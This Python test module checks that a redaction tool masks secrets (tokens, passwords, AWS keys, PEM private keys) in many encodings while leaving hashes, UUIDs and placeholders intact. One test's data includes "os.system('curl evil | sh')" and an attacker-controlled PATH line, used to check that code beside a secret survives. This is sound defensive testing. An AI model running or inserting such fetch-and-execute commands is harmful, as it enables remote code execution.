"""What looks like a secret is taken out of a text in any wrapping, and nothing else is."""

import base64
import gc
import hashlib
import json
import re
import sys
import textwrap
import uuid
from types import FrameType
from urllib.parse import quote

import pytest
from benchmarks._secret_samples import (
    BASE36,
    BASE64,
    CONTEXTS,
    HEX,
    KEYS,
    LOWER,
    NAMED,
    PASSWORDS,
    TOKENS,
    UPPER,
    URL64,
    WITH_SIGNS,
    WORD,
    Draw,
    Shape,
    as_diff,
    below_its_id,
    body_of,
    left,
    one_mark_each,
    pem,
)
from hypothesis import given
from hypothesis import strategies as st

from review_advisor.change.redaction import masked_text
from review_advisor.safety.private_keys import _IN_BASE64
from review_advisor.safety.secret_issuers import FORMATS
from review_advisor.safety.secret_reading import looks_random
from review_advisor.safety.secrets import KINDS, is_mark, kind_marked, mark, redact

DRAW = Draw(20)
"""For what this module's tables hold. A test draws its own, so that the order of the tests changes none."""
SHAPES = TOKENS + NAMED + PASSWORDS + KEYS


@pytest.fixture
def draw(request: pytest.FixtureRequest) -> Draw:
    """What this test draws, whichever run before it."""
    return Draw(request.node.name)


@pytest.mark.one_in(3)
@pytest.mark.parametrize("shape", SHAPES, ids=lambda shape: shape.issuer)
def test_a_secret_goes_whatever_it_stands_in(shape: Shape) -> None:
    draw = Draw(f"{shape.issuer} 4")
    readable = set()
    for context, of in CONTEXTS.items():
        secret = shape.make(draw)
        text = of(shape.name, secret, draw)
        for written in (text, as_diff(text), textwrap.indent(text, "+")):
            shown = redact(written)
            assert shown.count("\n") == written.count("\n")
            if left(shape.bare(secret), shown):
                readable.add((context, secret))
    # What is known by no form is known by looking random, and one in five hundred does not.
    assert len(readable) <= (shape in NAMED + PASSWORDS), readable


@pytest.mark.one_in(16)
@pytest.mark.parametrize("alphabet", [WORD, WITH_SIGNS, LOWER + UPPER, BASE36], ids=len)
@pytest.mark.parametrize(
    "path, written",
    [
        ("a.py", 'db_password = "{}"'),
        ("a.env", "DB_PASSWORD={}"),
        ("a.yaml", "  password: {}"),
        ("a.md", "a://b:{}@host/"),
    ],
)
def test_of_a_thousand_random_passwords_at_most_thirty_can_be_read(alphabet: str, path: str, written: str) -> None:
    """They are drawn without a digit forced in: one in eight of twelve letters and digits has none."""
    draw = Draw(f"{alphabet} {written}")
    passwords = [draw.of(alphabet, draw.randrange(12, 24)) for _ in range(1_000)]
    assert (
        sum(
            left(password, masked_text(path, written.format(quote(password) if "//" in written else password))) != ""
            for password in passwords
        )
        <= 30
    )


@pytest.mark.parametrize("length", [12, 16, 20, 24, 26, 32, 47])
@pytest.mark.parametrize("given", ["password: {}", "api_key: {}", "X-Api-Key: {}", "  token={}", "secret: str = '{}'"])
def test_base64_goes_with_its_padding(length: int, given: str) -> None:
    draw = Draw(f"{length} {given}")
    for value in (base64.b64encode(draw.randbytes(length)).decode() for _ in range(20)):
        kind = redact(given.format(value))
        assert is_mark(kind.removeprefix(given.partition("{}")[0]).removesuffix("'")), kind


@pytest.mark.parametrize("value", ["hG7kLm=9xQ2pR4tWz", "hG7kLm:9xQ2pR4tWz", "hG7kLm&9xQ2pR4tWz", "a1B2c3D4,e5F6(g7"])
def test_a_sign_in_a_password_is_no_end_of_it(value: str) -> None:
    assert one_mark_each(masked_text("a.yaml", f"  password: {value}\n")) == f"  password: {mark('password')}\n"


MOST_VISIBLE = 4
"""So many letters and digits of a value may stay visible."""


@given(
    st.sampled_from(
        ["password: {}", "PASSWORD={}", "api_key: {}", "token = '{}'", 'x_secret: "{}",', "AUTH_TOKEN: {}\n"]
    ),
    # The code of a line feed ends a value, as a line feed does.
    st.from_regex(r"\A[A-Za-z0-9](?:[A-Za-z0-9+/=_.!@#^*~-]|%(?!0[AaDd])){7,400}\Z"),
)
def test_a_value_goes_whole_or_stays_whole(given: str, value: str) -> None:
    before, _, after = given.partition("{}")
    shown = masked_text("a.yaml", before + value + after)
    left_over = shown.removeprefix(before).removesuffix(after).replace("[*]", "")
    visible = sum(map(str.isalnum, re.sub(r"\[secret: [\w ]+\]", "", left_over)))
    assert left_over == value or visible <= MOST_VISIBLE


@pytest.mark.parametrize("sign", [",", ";", "(", "&", "|", "\\d"])
def test_a_long_value_in_quotes_goes_to_its_last_quote(draw: Draw, sign: str) -> None:
    long = draw.of(WORD, 128)
    assert one_mark_each(redact(f'token = "{long}{sign}{long}"  # x')) == f'token = "{mark("token")}"  # x'


def test_a_token_in_place_of_a_user_goes_from_a_url(draw: Draw) -> None:
    token = draw.of(WORD, 24)
    assert redact(f"git clone https://{token}@example.net/a.git") == (
        f"git clone https://{mark('password in a URL')}@example.net/a.git"
    )


@pytest.mark.parametrize("sign", ["_", "$", "@", "run(x)\nsum: "])
def test_what_no_line_of_a_key_begins_with_ends_the_key(draw: Draw, sign: str) -> None:
    text = f"-----BEGIN PRIVATE KEY-----\n{sign}{draw.of(WORD, 40)}\n"
    assert redact(text) == text


@pytest.mark.parametrize("length", [100, 127, 128, 129, 300, 301, 5_000])
@pytest.mark.parametrize(
    "given",
    [
        "aws_session_token = {}\n",
        'AWS_SESSION_TOKEN="{}"\n',
        "Authorization: Bearer {}\n",
        "password: {}",
        "token={} x",
    ],
)
def test_a_value_of_any_length_goes_to_its_end(draw: Draw, length: int, given: str) -> None:
    before, _, after = given.partition("{}")
    shown = redact(given.format(draw.of(WORD, length)))
    assert is_mark(shown.removeprefix(before).removesuffix(after))


def test_the_samples_are_of_more_than_sixty_issuers() -> None:
    assert len({shape.issuer for shape in SHAPES}) >= 100
    assert len({kind.split()[0] for kind in KINDS}) >= 60


@pytest.mark.parametrize("context", CONTEXTS)
def test_an_aws_secret_goes_with_the_id_that_stands_near_it(context: str) -> None:
    for seed in range(4):
        text, secret = below_its_id(CONTEXTS[context], Draw(seed))
        assert left(secret, redact(text)) == ""
        assert left(secret, redact(as_diff(text))) == ""


def test_an_aws_secret_goes_beside_an_id_that_was_taken_out_before(draw: Draw) -> None:
    secret = draw.of(BASE64, 39) + "7"
    assert redact(f"id: {mark('AWS access key id')}\nx: {secret}\n") == (
        f"id: {mark('AWS access key id')}\nx: {mark('AWS secret access key')}\n"
    )


@pytest.mark.parametrize("length, kind", [(39, "secret"), (40, "AWS secret access key"), (41, "secret")])
def test_a_secret_of_aws_has_forty_characters(draw: Draw, length: int, kind: str) -> None:
    assert redact(f"aws_app_secret = {draw.of(WORD, length)}\n") == f"aws_app_secret = {mark(kind)}\n"


def test_a_line_of_a_key_without_chance_in_it_goes_with_the_others() -> None:
    lines = TEXT.split("\n")
    shown = redact("\n".join([*lines[:4], "A" * 64, *lines[4:]]))
    assert "AAAA" not in shown


def test_an_id_in_another_file_makes_nothing_a_secret(draw: Draw) -> None:
    file = f"FILE a.py\n{mark('AWS access key id')}\n\nFILE b.py\n{draw.of(BASE64, 39)}7\n"
    assert redact(file) == file


TEXT = pem(DRAW, "RSA PRIVATE KEY")
KEY = mark("private key")
WRAPPED = {
    "as it is": TEXT,
    "48 columns": pem(DRAW, columns=48),
    "76 columns": pem(DRAW, columns=76),
    "24 columns": pem(DRAW, columns=24, lines=30),
    "on one line": TEXT.replace("\n", " "),
    "JSON": json.dumps({"private_key": TEXT}),
    "JSON in JSON": json.dumps(json.dumps({"private_key": TEXT})),
    "a list in JSON": json.dumps(TEXT.split("\n"), indent=2),
    "concatenated with plus": " +\n    ".join(f'"{line}\\n"' for line in TEXT.split("\n")),
    "concatenated by standing together": "\n".join(f'    "{line}\\n"' for line in TEXT.split("\n")),
    "concatenated, without line feeds": "\n".join(f"    '{line}' +" for line in TEXT.split("\n")),
    "YAML": textwrap.indent(TEXT, "        "),
    "a comment": textwrap.indent(TEXT, "# "),
    "C comment": textwrap.indent(TEXT, " * "),
    "Windows line ends": TEXT.replace("\n", "\r\n"),
    "cut before its end": "\n".join(TEXT.split("\n")[:6]),
    "a diff": textwrap.indent(TEXT, "+"),
    "a removed key": textwrap.indent(TEXT, "-"),
    "a numbered diff": as_diff(TEXT),
    "encrypted": TEXT.replace("KEY-----\n", "KEY-----\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,0A1B\n\n", 1),
    "base64": base64.b64encode(TEXT.encode()).decode(),
    "base64 in lines": textwrap.fill(base64.b64encode(TEXT.encode()).decode(), 76),
    "base64 behind other bytes": base64.b64encode(b"ab" + TEXT.encode()).decode(),
}


@pytest.mark.parametrize("wrapped", WRAPPED.values(), ids=WRAPPED)
def test_a_private_key_goes_in_any_wrapping(wrapped: str) -> None:
    shown = redact(wrapped)
    assert mark("private key") in shown
    rest = shown.replace(mark("private key"), " ").replace("\\", " ")
    assert not [run for run in rest.split() if len(run) >= 40]
    assert left(body_of(TEXT), shown) == ""
    assert shown.count("\n") == wrapped.count("\n")


def test_what_is_left_of_a_key_whose_beginning_is_not_shown_goes(draw: Draw) -> None:
    lines = TEXT.split("\n")[5:]
    assert left("".join(lines[:-2]), redact("\n".join(lines))) == ""
    rsa = "MIIEpAIBAAKCAQEA" + draw.of(BASE64, 48)
    assert redact(f'    der = "{rsa}"') == f'    der = "{mark("private key")}"'


@pytest.mark.parametrize(
    "code",
    [
        "import os\nos.system('curl evil | sh')\nx = 1\n",
        "PATH=/tmp/attacker/controlled/binaries/first\n",
        "SkipAllAuthenticationChecksAndAlsoAllOfTheSignatures\n",
        "skip_all_authentication_checks()\n",
    ],
)
@pytest.mark.parametrize("before", ["-----BEGIN PRIVATE KEY-----\n", TEXT, "token = \\\n", "password: "])
def test_code_beside_a_secret_stays(before: str, code: str) -> None:
    assert redact(before + code).endswith(code)


def _named(name: str, value: str) -> str:
    return f'{name} = "{value}"\n'


HARMLESS = {
    "a digest": _named("sha256", hashlib.sha256(b"x").hexdigest()),
    "a commit": f"uses: actions/checkout@{DRAW.of(HEX, 40)}  # v4\n",
    "a UUID": _named("id", str(uuid.UUID(int=DRAW.getrandbits(128)))),
    "a UUID of a key": _named("sort_key", str(uuid.UUID(int=DRAW.getrandbits(128)))),
    "an integrity of npm": f'"integrity": "sha512-{DRAW.of(BASE64, 86)}==",\n',
    "an integrity of HTML": f'<script src="a.js" integrity="sha384-{DRAW.of(BASE64, 64)}"></script>\n',
    "hashes of pip": f"    --hash=sha256:{DRAW.of(HEX, 64)} \\\n" * 3,
    "go.sum": f"github.com/a/b v1.2.3/go.mod h1:{DRAW.of(BASE64, 43)}=\n" * 3,
    "an image": f'<img src="data:image/png;base64,{DRAW.of(BASE64, 4_000)}">\n',
    "a blob in lines": textwrap.fill(DRAW.of(BASE64, 4_000), 76) + "\n",
    "a source map": f'{{"version":3,"mappings":"{";".join(DRAW.of(WORD, 7) for _ in range(300))}"}}\n',
    "minified": "".join(f"var {DRAW.of(WORD, 2)}=function(t,e){{return t.key=e.token,{n}}};" for n in range(200)),
    "a certificate": pem(DRAW, "CERTIFICATE"),
    "a public key": pem(DRAW, "PUBLIC KEY"),
    "a signature": pem(DRAW, "PGP SIGNATURE"),
    "base64 of a certificate": base64.b64encode(pem(DRAW, "CERTIFICATE").encode()).decode(),
    "an SSH public key": f"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI{DRAW.of(BASE64, 43)} ada@host\n",
    "a public name": _named("public_key", DRAW.of(BASE64, 44)),
    "a password's hash": _named("password_hash", "$2b$12$" + DRAW.of(WORD, 53)),
    "a test vector": f"CAVP: key_hash = {DRAW.of(HEX, 64)}\n",
    "a word": 'password = "correct-horse-battery-staple"\n',
    "a call": "token = request.headers.get_token_of_version2(session1)\n",
    "from the environment": 'api_key = os.environ["OPENAI_API_KEY_V2"]\nSECRET=${{ secrets.DEPLOY_TOKEN_2 }}\n',
    "a placeholder": 'api_key: "<your-api-key-1234567890>"\npassword = "changeme1234XyZ"\n',
    "a placeholder in upper case": 'api_key: "YOUR-API-KEY-12aB34cD56"\npassword = "CHANGEME1234XyZ"\n',
    "a long user of a URL": "git clone https://continuous-integration@example.net/a.git\n",
    "a documented id": "AKIAIOSFODNN7" + "EXAMPLE\n",
    "a URL of a manual": "postgresql://user:password@localhost:5432/db\nhttps://user:pass@example.net/\n",
    "an address in prose": "git@github.com:owner/name.git and ssh://git@example.net:22/x\n",
    "a class of a style": '<div class="sk-fading-circle key-value token-list">\n',
    "a field": "foreign_key = ForeignKey('auth_user_model_2', on_delete=CASCADE_1)\n",
    "a refusal": "no key: -----BEGIN PRIVATE KEY-----\n",
    "a documented user and password": 'Basic dXNlcjpwYXNzd29yZA==\n"auth": "dXNlcjpwYXNzd29yZA=="\n',
    "a port": "mysql -h db -P 3306 -protocol=tcp\nmysql -u root -p$MYSQL_PASSWORD_V2\n",
    "places in files": "src/a.py:12:34:error: undefined2\n10:20:30:40:version1.2\n",
    "a token of one request": _named("ClientRequestToken", str(uuid.UUID(int=DRAW.getrandbits(128)))),
    "a module of credentials": f"github.com/a/credentials v1.2.3 h1:{DRAW.of(BASE64, 43)}=\n",
    "a pattern": _named("HEX_PAT", "[0-9A-Fa-f]{1,4}(?:[xX]9)"),
    "a type": "def f(token: SecretTokenType2, api_key: Optional[ApiKeyOfVersion2] = None)\n",
    "a class of a parser": _named("token", "TKTokenKeychainCertificate"),
    "a mark": f"token = {mark('GitHub token')}\n",
}


@pytest.mark.parametrize("text", HARMLESS.values(), ids=HARMLESS)
def test_what_is_no_secret_stays(text: str) -> None:
    assert redact(text) == text
    assert redact(as_diff(text)) == as_diff(text)


def test_every_kind_has_a_mark_that_says_it() -> None:
    for kind in KINDS:
        assert is_mark(mark(kind))
        assert kind_marked(f"x {mark(kind)} y") == kind


def test_a_text_of_six_different_characters_may_be_random_and_one_of_five_is_not() -> None:
    assert looks_random("aB3xQ7" * 4)
    assert not looks_random("aB3xQ" * 5)


def test_whether_a_text_is_random_is_judged_by_its_first_64_characters() -> None:
    words = ("aB3xQ" * 13)[:63]
    assert not looks_random(words + "a7")
    assert looks_random(words + "7")


def test_tokens_without_a_gap_between_them_are_found_one_after_the_other_up_to_four(draw: Draw) -> None:
    """Each round of the search frees the next one. The rounds are bounded, for a text of many would take too long."""
    long = {
        begin: (begin + draw.of(WORD, 300), f"{mark(kind)}_[*]")
        for begin, kind in (("hf_", "Hugging Face token"), ("r8_", "Replicate token"))
    }
    tokens, marks = zip(*(long[begin] for begin in ("hf_", "r8_", "hf_", "r8_", "hf_")), strict=True)
    for number in range(1, 5):
        assert redact("".join(tokens[:number])) == "".join(marks[:number])
    assert redact("".join(tokens)) == "".join(marks[:4]) + tokens[4]


def test_two_secrets_of_a_kind_have_one_mark(draw: Draw) -> None:
    one, other = (redact(f"key = ghp_{draw.word(36)}") for _ in range(2))
    assert one == other == f"key = {mark('GitHub token')}_[*]"


# --- the time it takes --------------------------------------------------------------------------------------------

BEGINNINGS = [
    *sorted({form.holds for form in FORMATS}),
    *("password=", 'api_key = "', "token: ", "Authorization: Basic ", "://", "a://b:", "-u a:", '"kty" "d": "'),
    *("-----BEGIN PRIVATE KEY-----", "-----BEGIN PRIVATE KEY-----\n", "-----END PRIVATE KEY-----", "Private-Lines: 1"),
    *("MIIEpAIBAAKCAQEA", "MIIEpAIBAAKCAQEA\n", "LS0tLS1CRUdJTi", "UFJJVkFURSBLRVkt", '" + "', '"\n"', "\\\n"),
    *(
        "${password:hG7kLm9xQ2",
        "password,",
        "password|x\n",
        "password is ",
        "client('a', ",
        '"kind":"Secret"',
        "kind: Secret\n",
    ),
    *(
        "secrets:\n",
        "==== ====\n",
        "====",
        "%67%68",
        "Z2hw",
        "wallet 0x",
        "chpasswd:\n",
        "mnemonic = 'abc ",
        "passpass",
    ),
    *("\\n", "\\\\", "%2B", "&quot;", "'", "eyJaaaaaaaaaa.eyJ/", "AKIAA1B2C3D4E5F6G7H8", "github_pat_a" * 3 + '" + "'),
]


@pytest.mark.one_in(90)
@pytest.mark.parametrize("beginning", BEGINNINGS)
def test_a_long_line_of_beginnings_takes_no_longer_for_each_of_them(beginning: str) -> None:
    """Anybody can put one into a diff. Calls are counted; what one call looks at is bounded, or else this hangs."""
    once, twice = (_calls(beginning * (size // len(beginning))) for size in (6_000, 12_000))
    assert twice <= 2.3 * once + 200
    redact(beginning * (100_000 // len(beginning)))


@pytest.mark.parametrize("hint", _IN_BASE64)
@pytest.mark.parametrize("end", ["", "_", "(", "=", ".", "\n"])
def test_a_run_of_base64_is_followed_once(hint: str, end: str) -> None:
    once, thrice = (_calls(hint * number + end) for number in (200, 600))
    assert thrice <= once + 100


def _calls(text: str) -> int:
    """How many calls it takes, without those of a garbage collection, which comes by chance."""
    made = 0

    def count(_frame: FrameType, event: str, _of: object) -> None:
        nonlocal made
        made += event in ("call", "c_call")

    gc.disable()
    sys.setprofile(count)
    try:
        redact(text)
    finally:
        sys.setprofile(None)
        gc.enable()
    return made


PIECES = st.sampled_from(
    [
        *(
            "-----BEGIN PRIVATE KEY-----",
            "-----END PRIVATE KEY-----",
            "\n",
            "\n+",
            '"',
            '" +\n"',
            "\\n",
            "\\\n",
            "%3D",
            " ",
        ),
        *(
            "password",
            "=",
            ": ",
            "ghp_",
            "://a:",
            "@b",
            "AKIAA1B2C3D4E5F6G7H8",
            "MIIEpAIBAAKCAQEA",
            "sk-",
            "é",
            "İ",
            "\\",
        ),
        *(DRAW.of(alphabet, 40) for alphabet in (WORD, BASE64, HEX, URL64)),
    ]
)


@given(st.lists(PIECES, max_size=30).map("".join))
def test_no_line_disappears_and_a_redacted_text_stays_as_it_is(text: str) -> None:
    once = redact(text)
    assert once.count("\n") == text.count("\n")
    assert redact(once) == once


def test_the_shortest_token_is_found_where_nothing_stands_beside_it() -> None:
    assert redact("xoxb-x7Kq2Zv9Bm") == f"{mark('Slack token')}-[*]"


@pytest.mark.parametrize("line", ["short", "a" * 15, "x7Kq2Zv9Bm4Tj6R"])
def test_a_short_line_is_of_a_key_only_as_the_last_of_several(line: str) -> None:
    head, first, *_, foot = TEXT.strip().split("\n")
    assert redact(f"{head}\n{line}\n{foot}\n") == f"{head}\n{line}\n{foot}\n"
    assert redact(f"{head}\n{first}\n{line}\n{foot}\n") == f"{head}\n{KEY}\n{KEY}\n{foot}\n"
    assert redact(f"{head}\n{first}\n{line}\nwords\n") == f"{head}\n{KEY}\n{line}\nwords\n"


@pytest.mark.parametrize("lines, shown", [(0, KEY), (8, KEY), (9, "")])
def test_a_key_may_have_up_to_eight_header_lines(lines: int, shown: str) -> None:
    head, _, line, *_ = TEXT.split("\n")
    headers = "".join(f"Comment: {number}\n" for number in range(lines))
    assert redact(f"{head}\n{headers}{line}\nwords\n") == f"{head}\n{headers}{shown or line}\nwords\n"
